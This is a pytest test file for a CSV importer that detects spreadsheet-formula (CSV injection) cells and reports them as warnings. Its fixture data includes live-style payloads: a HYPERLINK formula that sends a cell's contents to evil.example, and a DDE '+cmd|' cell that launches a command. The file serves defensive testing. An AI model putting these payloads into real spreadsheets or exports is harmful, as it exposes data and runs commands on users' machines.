"""Formula-like cells (OWASP CSV injection) in imported text fields: imported as text, each
reported as a warning with file:line: column; numbers and phone numbers are not formulas."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from typer.testing import CliRunner

from storage.db import Database
from storage.importers import import_csv
from tests.integration.test_importers import counts, write

TODAY = dt.date(2026, 11, 23)
CUSTOMERS = """\
code,name,email,phone,telegram,segment
C1,"=HYPERLINK(""http://evil.example/?x=""&A1)",=cmd@evil.example,+62 812 3456 7890,-100123,x
C2,CV Sinar,ar@sinar.example,0812-3456-7891,,@SUM(1+1)
C3,+cmd|' /C calc'!A0,,,,-segment
"""
INVOICES = """\
number,customer,issue_date,due_date,amount,item
-INV-1,C1,2026-09-01,2026-10-01,5000000,=1+2
INV-2,C2,2026-09-01,2026-10-01,"1.250.000,50",Semen
"""


async def test_formula_cells_are_imported_and_reported_as_warnings(
    db: Database, tmp_path: Path
) -> None:
    path = write(tmp_path, "c.csv", CUSTOMERS)
    report = await import_csv(db, "customers", path, today=TODAY)
    assert report.ok and report.created == 3
    assert [(w.line, w.column) for w in report.warnings] == [
        (2, "name"),
        (2, "email"),
        (3, "segment"),
        (4, "name"),
        (4, "segment"),
    ]
    assert str(report.warnings[0]).startswith(f"{path}:2: name: ")
    assert "formula" in report.warnings[0].reason
    invoices = write(tmp_path, "i.csv", INVOICES)
    report = await import_csv(db, "invoices", invoices, today=TODAY)
    assert report.ok and report.created == 2
    # The amount "1.250.000,50" and positive numbers are not formulas; "-INV-1" is text.
    assert [(w.line, w.column) for w in report.warnings] == [(2, "number"), (2, "item")]
    assert (await counts(db))["Invoice"] == 2


async def test_a_bad_file_reports_its_formulas_too_and_writes_nothing(
    db: Database, tmp_path: Path
) -> None:
    path = write(tmp_path, "c.csv", "code,name\nC1,=1+1\n,@x\n")
    report = await import_csv(db, "customers", path, today=TODAY)
    assert not report.ok
    assert [(e.line, e.column) for e in report.errors] == [(3, "code")]
    assert [(w.line, w.column) for w in report.warnings] == [(2, "name"), (3, "name")]
    assert (await counts(db))["Customer"] == 0


def test_cli_prints_the_warnings_and_still_imports(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.cli.main import app

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TAGIH_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'tagih.db'}")
    write(tmp_path, "c.csv", "code,name\nC1,=1+1\nC2,PT Biasa\n")
    result = CliRunner().invoke(app, ["import", "customers", "c.csv"])
    assert result.exit_code == 0, result.output
    assert "c.csv:2: name: looks like a spreadsheet formula" in result.output
    assert "1 warning" in result.output
    assert "imported 2 rows: 2 new" in result.output
